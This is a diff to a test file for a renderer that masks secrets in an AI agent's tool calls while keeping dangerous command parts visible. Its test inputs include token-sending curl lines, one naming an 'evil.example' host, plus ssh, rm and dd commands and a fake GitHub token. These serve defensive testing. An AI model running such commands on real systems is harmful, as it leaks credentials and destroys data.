@@ -3,6 +3,7 @@ import { describe, expect, test } from "vitest";
 import { sha256Text } from "../hash.js";
 import { exhaustive, manifestOf, valuesOf, viewOf, world } from "./fixture.js";
 import { render, viewHash } from "./render.js";
+import { holdsSecret, masksOf } from "./secrets.js";
 
 // Made up here, of letters that nobody was given: scanners of repositories would take whole ones for real.
 const gitHub = `ghp_${"Ab3".repeat(12)}`;
@@ -62,10 +63,37 @@ test.each<[tool: string, args: Record<string, string | Record<string, string>>]>
   ["keyboard.type", { text: gitHub }],
   ["email.send", { to: "a@b.example", subject: `Key ${gitHub}`, body: gitHub }],
   ["git.clone", { url: `https://x:${gitHub}@a.example/x` }],
+  ["git.push", { remote: `https://x:${gitHub}@a.example/x`, branch: "main" }],
+  ["git.delete_branch", { remote: `https://x:${gitHub}@a.example/x`, branch: "old" }],
+  ["git.commit", { message: gitHub }],
+  ["browser.type", { selector: "#key", text: gitHub }],
+  ["keyboard.press", { keys: gitHub }],
+  ["process.run", { program: `deploy --token ${gitHub}`, args: "now" }],
+  ["browser.navigate", { url: `https://a.example/?${"a=b&".repeat(100)}c=${gitHub}` }],
+  ["shell.exec", { command: `TOKEN=${gitHub} deploy ${"now ".repeat(100)}` }],
+  ["shell.exec", { command: `curl -d '{"token":"${gitHub}"}' https://a.example` }],
+  ["shell.exec", { command: `x api_key = ${gitHub}` }],
+  ["shell.exec", { command: `x -token ${gitHub}` }],
+  ["shell.exec", { command: `x --my-api_token-value ${gitHub}` }],
+  ["shell.exec", { command: `x --token '${gitHub}'` }],
+  ["shell.exec", { command: `TOKEN=${gitHub} x &` }],
+  ["shell.exec", { command: `x $'--token ${gitHub}'` }],
+  ["shell.exec", { command: `x $(TOKEN=${gitHub} y)` }],
+  ["shell.exec", { command: `${"{ ".repeat(60)}TOKEN=${gitHub} x${"; }".repeat(60)}` }],
+  ["shell.exec", { command: `"$X --token ${gitHub}" y` }],
+  ["shell.exec", { command: `python3 -c "$X --token ${gitHub}"` }],
+  ["shell.exec", { command: `python3 -c "x --token ${gitHub}"` }],
+  ["shell.exec", { command: `eval TOKEN=${gitHub} x` }],
+  ["shell.exec", { command: `${"eval ".repeat(6)}TOKEN=${gitHub}` }],
+  ["shell.exec", { command: `curl -u 'ada:${gitHub}' https://a.example` }],
 ])("no row and no sentence shows what its row masks: %s %j", (tool, args) => {
   const shown = viewOf(tool, args, {
     env: { TOKEN: gitHub },
-    target: { window: `Key ${gitHub}`, url: `https://a.example/#${gitHub}` },
+    target: {
+      element: `Key ${gitHub}`,
+      window: `Key ${gitHub}`,
+      url: `https://a.example/#${gitHub}`,
+    },
   }).flat();
   for (const secret of [gitHub, ...webToken.split(".")]) {
     expect(shown.filter((text) => text.includes(secret))).toEqual([]);
@@ -115,6 +143,9 @@ describe("nothing that matters hides behind a mask", () => {
         `rm "${secret}"`,
         `ssh ${secret}`,
         `scp x ada@${secret}:y`,
+        `ssh ${secret}@a.example`,
+        `curl https://a.example/x ; ssh ${secret}@a.example`,
+        `curl https://${secret},x@a.example`,
         `curl https://${secret}.evil.example/x`,
         `curl ${secret}:443`,
         `dd of=${secret}`,
@@ -139,10 +170,51 @@ describe("nothing that matters hides behind a mask", () => {
     );
   });
 
+  test.each(examples)(
+    "no part of a word, a path or a host, in any text, in the shape of a %s",
+    (_name, secret) => {
+      const before = ["x", "/", "\\", ".", "~", "%", "-", "@", "//"];
+      const after = ["/", "\\", ".x", ":1"];
+      for (const text of [
+        ...before.map((left) => left + secret),
+        ...after.map((right) => secret + right),
+      ]) {
+        expect(holdsSecret(text), text).toBe(false);
+        expect(viewOf("some.tool", { text })).toContainEqual(["args.text", text, "model", "text"]);
+      }
+    },
+  );
+
+  test("nothing of a kind that matters whole", () => {
+    const kinds = ["path", "person", "host", "domain", "money", "number", "fact"] as const;
+    for (const kind of kinds) expect(masksOf(gitHub, kind)).toEqual([]);
+  });
+
+  test("no file beside a secret that is told", () => {
+    const command = `rm ${gitHub} && TOKEN=${gitHub} x`;
+    expect(valuesOf(viewOf("shell.exec", { command }), "command")[0]).toBe(
+      `rm ${gitHub} && TOKEN=${gitHubMask} x`,
+    );
+  });
+
   test("no private key, whose lines a shell would run", () => {
     const text = "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----";
     expect(viewOf("keyboard.type", { text }).flat().join()).toContain("reboot");
   });
+});
+
+test("a text holds a secret wherever in it one stands as a word", () => {
+  for (const text of [
+    gitHub,
+    `a ${gitHub}.`,
+    `a="${gitHub}"`,
+    `//${gitHub}@x`,
+    `//x:${gitHub}@x`,
+  ]) {
+    expect(holdsSecret(text), text).toBe(true);
+  }
+  expect(holdsSecret("")).toBe(false);
+  expect(holdsSecret(gitHub.slice(0, -1))).toBe(false);
 });
 
 test("nobody but the renderer can write a mask", () => {
